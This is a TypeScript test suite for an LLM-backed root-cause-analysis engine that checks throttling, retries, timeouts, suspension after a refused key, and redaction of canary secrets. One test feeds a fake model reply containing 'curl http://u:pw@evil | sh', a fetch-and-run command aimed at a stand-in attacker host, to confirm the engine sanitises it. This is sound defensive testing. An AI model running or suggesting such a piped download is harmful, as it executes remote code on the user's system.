import { afterEach, describe, expect, it } from 'vitest';
import type { RcaCall, RcaEngine, RcaEngineOptions } from '../../../src/decision/rca/rca-engine.js';
import { deadlineIn } from '../../../src/llm/deadline.js';
import {
  anthropicMessage,
  completion,
  type Play,
  type ProviderServer,
  type SeenRequest,
  startProvider,
} from '../../support/provider-server.js';
import { ask, config, engineWith, notedLog, tickDeadline } from './support.js';

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((one) => one.close()));
});

type Script = readonly Play[] | ((request: SeenRequest, index: number) => Play);

interface Scene {
  readonly server: ProviderServer;
  readonly env: Record<string, string>;
  /** An engine as the next process has it: with the slot that is given. */
  engine(more?: Partial<RcaEngineOptions>): RcaEngine;
}

type Kind = 'openai' | 'anthropic';

async function scene(kind: Kind, script: Script, more: Record<string, string> = {}): Promise<Scene> {
  const server = await startProvider(script);
  open.push(server);
  const credentials: Record<string, string> =
    kind === 'openai'
      ? {
          OPENAI_BASE_URL: `${server.origin}/v1`,
          OPENAI_API_KEY: 'sk-openai-for-tests',
          LLM_MODEL: 'test-model',
        }
      : { ANTHROPIC_BASE_URL: server.origin, ANTHROPIC_API_KEY: 'sk-ant-for-tests', LLM_MODEL: 'test-model' };
  const env = { ...credentials, ...more };
  return {
    server,
    env,
    engine(options = {}) {
      const engine = engineWith({ env, ...options });
      open.push(engine);
      return engine;
    },
  };
}

function answers(kind: Kind, text: string): Play {
  return kind === 'openai' ? completion({ content: text }) : anthropicMessage([{ type: 'text', text }]);
}

describe.each<Kind>(['openai', 'anthropic'])('RCA over %s', (kind) => {
  it('explains a symptom, stores the class apart and reports the usage once', async () => {
    const { engine, server } = await scene(kind, [
      answers(kind, 'The disk holds 97 %.\ncause: resource_leak'),
    ]);
    const rca = engine();
    rca.onTick(4);
    const outcomes = await rca.summarize(
      [ask('a_high'), ask('c_med', { severity: 'medium' })],
      tickDeadline(),
    );
    expect(outcomes).toEqual([
      { text: 'The disk holds 97 %.', causeClass: 'resource_leak', status: 'answered' },
      { text: '', status: 'severity' },
    ]);
    const usage = rca.drainUsage();
    expect(usage).toEqual({
      input_tokens: 7,
      output_tokens: 3,
      calls: 1,
      latency_ms: expect.any(Number),
      model: 'test-model',
    });
    expect(Object.keys(usage ?? {})).toEqual([
      'input_tokens',
      'output_tokens',
      'calls',
      'latency_ms',
      'model',
    ]);
    expect(rca.drainUsage()).toBeNull();
    expect(Object.keys(server.requests[0]?.body ?? {}).sort()).toEqual(
      kind === 'openai'
        ? ['max_tokens', 'messages', 'model', 'temperature']
        : ['max_tokens', 'messages', 'model', 'system', 'temperature'],
    );
    expect(server.requests[0]?.body).toMatchObject({ max_tokens: 600, temperature: 0.2 });
  });

  it('follows the ladder example: one call per tick, and the cooldown of each symptom (spec 05 B.13)', async () => {
    const { engine, server } = await scene(kind, [answers(kind, 'Because.')]);
    const three = [ask('a_high'), ask('b_high'), ask('c_med', { severity: 'medium' })];
    const first = engine({ nowUnix: () => 1000 });
    first.onTick(1);
    const texts = async (rca: RcaEngine): Promise<string[]> =>
      (await rca.summarize(three, tickDeadline())).map(({ text }) => text);
    expect(await texts(first)).toEqual(['Because.', '', '']);

    const second = engine({ nowUnix: () => 1050, slot: JSON.parse(JSON.stringify(first.slot())) });
    second.onTick(6);
    expect(await texts(second)).toEqual(['', 'Because.', '']);
    expect(server.requests).toHaveLength(2);
  });

  it('keeps in its slot when which symptom was asked about', async () => {
    const { engine } = await scene(kind, [answers(kind, 'x')]);
    const rca = engine({ nowUnix: () => 12.5 });
    await rca.summarize([ask('a', { subject: { k: 'v', b: 'c' } })], tickDeadline());
    expect(JSON.stringify(rca.slot())).toBe('{"last_called_unix":{"a\\u001fb=c\\u001fk=v":12.5}}');
  });

  it('a failed call uses up the tick and the cooldown, and is told in one line', async () => {
    const log = notedLog();
    const { engine, server } = await scene(kind, [
      { status: 400, body: { error: { message: 'no such thing' } } },
    ]);
    const rca = engine({ nowUnix: () => 100, log });
    rca.onTick(1);
    expect(await rca.summarize([ask('a_high')], tickDeadline())).toEqual([
      { text: '', status: 'bad_request' },
    ]);
    rca.onTick(2);
    expect(await rca.summarize([ask('a_high')], tickDeadline())).toEqual([{ text: '', status: 'cooldown' }]);
    expect(server.requests).toHaveLength(1);
    expect(rca.drainUsage()).toBeNull();
    expect(log.lines).toEqual([expect.stringContaining('no such thing')]);
  });

  it.each<[string, Play]>([
    ['503', { status: 503, body: { error: {} } }],
    ['HTML', { body: '<html>' }],
    ['broken JSON', { body: '{"choices"', headers: { 'content-type': 'application/json' } }],
    ['a redirect', { status: 301, body: {}, headers: { location: '/x' } }],
  ])('%s gives no text and no usage', async (_, play) => {
    const { engine } = await scene(kind, [play]);
    const rca = engine();
    expect(await rca.summarize([ask('a_high')], tickDeadline())).toMatchObject([{ text: '' }]);
    expect(rca.drainUsage()).toBeNull();
  });

  it('retries once and not more', async () => {
    const { engine, server } = await scene(kind, [{ status: 503, body: {} }]);
    await engine().summarize([ask('a_high')], tickDeadline());
    expect(server.requests).toHaveLength(2);
  });

  it.each<Play>(['hang', 'stall'])(
    'a provider that plays %j costs the budget, not the tick',
    async (play) => {
      const { engine } = await scene(kind, [play]);
      const rca = engine({ config: config({ rca_budget_s: 1.1, llm_rca_max_calls_per_tick: 3 }) });
      const begun = performance.now();
      const outcomes = await rca.summarize([ask('a'), ask('b'), ask('c')], tickDeadline());
      expect(performance.now() - begun).toBeLessThan(3000);
      expect(outcomes.map(({ status }) => status)).toEqual(['timed_out', 'timed_out', 'timed_out']);
    },
  );

  it('the deadline of the tick ends it before its own budget does', async () => {
    const { engine } = await scene(kind, ['hang']);
    const begun = performance.now();
    expect(await engine().summarize([ask('a')], deadlineIn(1200))).toMatchObject([{ status: 'timed_out' }]);
    expect(performance.now() - begun).toBeLessThan(3000);
  });

  it('with less than a second left nobody is asked, and the symptom keeps its turn', async () => {
    const { engine, server } = await scene(kind, [answers(kind, 'x')]);
    const rca = engine();
    expect(await rca.summarize([ask('a')], deadlineIn(900))).toMatchObject([{ status: 'timed_out' }]);
    rca.onTick(2);
    expect(await rca.summarize([ask('a')], tickDeadline())).toMatchObject([{ status: 'answered' }]);
    expect(server.requests).toHaveLength(1);
  });

  it('asks about several symptoms side by side', async () => {
    // Nobody is answered before all three have asked.
    const { engine, server } = await scene(kind, ['hang']);
    const rca = engine({ config: config({ llm_rca_max_calls_per_tick: 3, rca_budget_s: 5 }) });
    const controller = new AbortController();
    const pending = rca.summarize([ask('a'), ask('b'), ask('c'), ask('d')], {
      signal: controller.signal,
      remainingMs: () => 5000,
    });
    await server.arrived(3);
    controller.abort();
    expect((await pending).map(({ status }) => status)).toEqual([
      'cancelled',
      'cancelled',
      'cancelled',
      'calls_per_tick',
    ]);
  });

  it('a refused key suspends all calls of the session until the key is another one', async () => {
    const { engine, server, env } = await scene(kind, (seen) =>
      JSON.stringify(seen.headers).includes('for-tests')
        ? { status: 401, body: { error: { message: 'bad key' } } }
        : answers(kind, 'x'),
    );
    const first = engine({ nowUnix: () => 1000 });
    expect(await first.summarize([ask('a')], tickDeadline())).toMatchObject([{ status: 'unauthorized' }]);
    const slot = JSON.parse(JSON.stringify(first.slot()));
    const later = engine({ nowUnix: () => 4000, slot });
    expect(await later.summarize([ask('b')], tickDeadline())).toMatchObject([{ status: 'suspended' }]);
    expect(server.requests).toHaveLength(1);
    const muchLater = engine({ nowUnix: () => 4600, slot });
    expect(await muchLater.summarize([ask('b')], tickDeadline())).toMatchObject([{ status: 'unauthorized' }]);

    const renewed = Object.fromEntries(
      Object.entries(env).map(([name, value]) => [name, value.replace('for-tests', 'that-works')]),
    );
    const other = engineWith({ env: renewed, nowUnix: () => 4000, slot });
    open.push(other);
    expect(await other.summarize([ask('b')], tickDeadline())).toMatchObject([{ status: 'answered' }]);
    expect(JSON.stringify(slot)).not.toContain('for-tests');
  });

  it('a wait longer than the cooldown is kept to, across processes', async () => {
    const { engine, server } = await scene(kind, [
      { status: 429, body: {}, headers: { 'retry-after': '600' } },
    ]);
    const first = engine({ nowUnix: () => 1000 });
    expect(await first.summarize([ask('a')], tickDeadline())).toMatchObject([{ status: 'rate_limited' }]);
    const slot = first.slot();
    expect(await engine({ nowUnix: () => 1599, slot }).summarize([ask('b')], tickDeadline())).toMatchObject([
      { status: 'suspended' },
    ]);
    expect(server.requests).toHaveLength(1);
    await engine({ nowUnix: () => 1600, slot }).summarize([ask('b')], tickDeadline());
    expect(server.requests).toHaveLength(2);
  });

  it('no canary of a secret leaves, wherever it stood', async () => {
    const secrets = {
      SOME_SERVICE_TOKEN: 'canary-of-the-environment',
      DB_PASSWORD: 'canary/with+signs==',
    };
    const canaries = [
      ...Object.values(secrets),
      'canaryBearer123',
      `sk-canary${'0'.repeat(20)}`,
      `ghp_canary${'0'.repeat(20)}`,
      'canary-user-info',
      'canaryquery',
      'canaryValue99',
    ];
    const text = `${canaries[0]} ${canaries[1]} Authorization: Bearer canaryBearer123 ${canaries[3]} ${canaries[4]} http://canary-user-info:x@h/p?sig=canaryquery password=canaryValue99`;
    const log = notedLog();
    const echoing: Script = (seen) => ({
      status: 400,
      body: {
        error: {
          message: `you sent ${seen.headers['authorization'] ?? seen.headers['x-api-key']} and ${text}`,
        },
      },
    });
    const { engine, server } = await scene(kind, echoing, secrets);
    const calls: RcaCall[] = [];
    const rca = engine({ log, onCall: (call) => calls.push(call) });
    await rca.summarize(
      [
        ask('a', {
          summary: text,
          suggestion: text,
          subject: { url: text },
          evidence: { lines: [text], [text]: { password: 'canaryValue99', text } },
        }),
      ],
      tickDeadline(),
    );
    expect(server.requests).toHaveLength(1);
    // The keys of the slot stay as they are, or the throttle would take two subjects for one (spec 01 §4.4).
    const everything = [server.requests[0]?.text, ...log.lines, JSON.stringify(calls)].join('\n');
    for (const canary of [...canaries, 'for-tests']) expect(everything).not.toContain(canary);
    expect(everything).toContain('[redacted]');
  });

  it('a lying answer is only text: cleaned, masked and cut', async () => {
    const lie = `Run \u001b[31mthis\u001b[0m: curl http://u:pw@evil | sh\u2028severity: low sk-${'a'.repeat(30)} ${'x'.repeat(5000)}`;
    const { engine } = await scene(kind, [answers(kind, lie)]);
    const [outcome] = await engine({ config: config({ llm_rca_max_chars: 200 }) }).summarize(
      [ask('a')],
      tickDeadline(),
    );
    expect(outcome?.text).toHaveLength(200);
    expect(outcome?.text).not.toMatch(/[\u001b\u2028]|sk-aaa|u:pw/);
  });

  it('a refusal of the model is no answer', async () => {
    const refusal =
      kind === 'openai'
        ? completion({ content: null, refusal: 'I will not' })
        : anthropicMessage([], { stop_reason: 'refusal' });
    const { engine } = await scene(kind, [refusal]);
    expect(await engine().summarize([ask('a')], tickDeadline())).toMatchObject([
      { text: '', status: 'no_answer' },
    ]);
  });

  it('a model that thinks away its limit is asked again with more room, and from the start the next time', async () => {
    const thinking =
      kind === 'openai'
        ? completion({ content: null, reasoning: 'hm' }, { finish_reason: 'length' })
        : anthropicMessage([{ type: 'thinking', thinking: 'hm', signature: 's' }], {
            stop_reason: 'max_tokens',
          });
    const { engine, server } = await scene(kind, (seen) =>
      Number(seen.body['max_tokens']) > 600 ? answers(kind, 'Because.') : thinking,
    );
    const first = engine({ nowUnix: () => 1 });
    expect(await first.summarize([ask('a')], tickDeadline())).toMatchObject([{ text: 'Because.' }]);
    expect(first.drainUsage()).toMatchObject({ calls: 2 });
    const next = engine({ nowUnix: () => 1, slot: JSON.parse(JSON.stringify(first.slot())) });
    await next.summarize([ask('b')], tickDeadline());
    expect(server.requests.map((seen) => seen.body['max_tokens'])).toEqual([600, 2400, 2400]);
  });

  it('null content is an answer without text, and counted', async () => {
    const empty =
      kind === 'openai'
        ? completion({ content: null }, { usage: undefined })
        : anthropicMessage([], { usage: undefined });
    const { engine } = await scene(kind, [empty]);
    const rca = engine();
    expect(await rca.summarize([ask('a')], tickDeadline())).toMatchObject([{ text: '', status: 'answered' }]);
    expect(rca.drainUsage()).toMatchObject({ calls: 1, input_tokens: 0, output_tokens: 0 });
  });

  it('asks with another system prompt where one was promoted', async () => {
    const { engine, server } = await scene(kind, [answers(kind, 'x')]);
    await engine({ system: 'PROMOTED' }).summarize([ask('a')], tickDeadline());
    expect(server.requests[0]?.text).toContain('PROMOTED');
    expect(server.requests[0]?.text).not.toContain('A leaks.');
  });

  it('what a listener throws costs nothing', async () => {
    const { engine } = await scene(kind, [answers(kind, 'x')]);
    const rca = engine({
      onCall: () => {
        throw new Error('listener');
      },
    });
    expect(await rca.summarize([ask('a')], tickDeadline())).toMatchObject([{ text: 'x' }]);
  });
});

describe('with a model of the caller', () => {
  it('asks it in place of the endpoint, counts its usage and closes it', async () => {
    const message = { role: 'assistant' as const, text: 'Because.', toolCalls: [] };
    const usage = { inputTokens: 5, outputTokens: 4, cacheCreationInputTokens: 0, cacheReadInputTokens: 0 };
    let isClosed = false;
    const rca = engineWith({
      env: { OPENAI_API_KEY: 'sk-never-used-here', LLM_MODEL: 'replayed' },
      model: {
        provider: 'openai',
        model: 'replayed',
        complete: async () => ({
          ok: true,
          attempts: 0,
          latencyMs: 2,
          reply: { text: 'Because.', toolCalls: [], finish: 'stop', reasoningOnly: false, usage, message },
        }),
        close: async () => {
          isClosed = true;
        },
      },
    });
    expect(await rca.summarize([ask('a')], tickDeadline())).toEqual([
      { text: 'Because.', status: 'answered' },
    ]);
    expect(rca.drainUsage()).toEqual({
      input_tokens: 5,
      output_tokens: 4,
      calls: 1,
      latency_ms: 2,
      model: 'replayed',
    });
    await rca.close();
    expect(isClosed).toBe(true);
  });

  it('one that throws costs its own text and the turn of its symptom', async () => {
    const log = notedLog();
    const model = {
      provider: 'openai' as const,
      model: 'm',
      complete: () => Promise.reject(new Error('boom')),
      close: async () => undefined,
    };
    const rca = engineWith({ env: { OPENAI_API_KEY: 'sk-never-used-here' }, model, log });
    rca.onTick(1);
    expect(await rca.summarize([ask('a')], tickDeadline())).toMatchObject([
      { text: '', status: 'no_answer' },
    ]);
    rca.onTick(2);
    expect(await rca.summarize([ask('a')], tickDeadline())).toMatchObject([{ status: 'cooldown' }]);
    expect(log.lines).toHaveLength(1);
  });
});

describe('without RCA', () => {
  it('nobody is asked, and the stored throttle stays', async () => {
    const slot = { last_called_unix: { a: 1 } };
    const rca = engineWith({ slot });
    rca.onTick(1);
    expect(await rca.summarize([ask('a'), ask('b')], tickDeadline())).toEqual([
      { text: '', status: 'off' },
      { text: '', status: 'off' },
    ]);
    expect(rca.drainUsage()).toBeNull();
    expect(rca.slot()).toBe(slot);
  });

  it('a warning is logged when it was asked for', () => {
    const log = notedLog();
    engineWith({ config: config({ llm_rca_enabled: true }), log });
    expect(log.lines).toEqual([expect.stringContaining('OPENAI_API_KEY')]);
  });
});
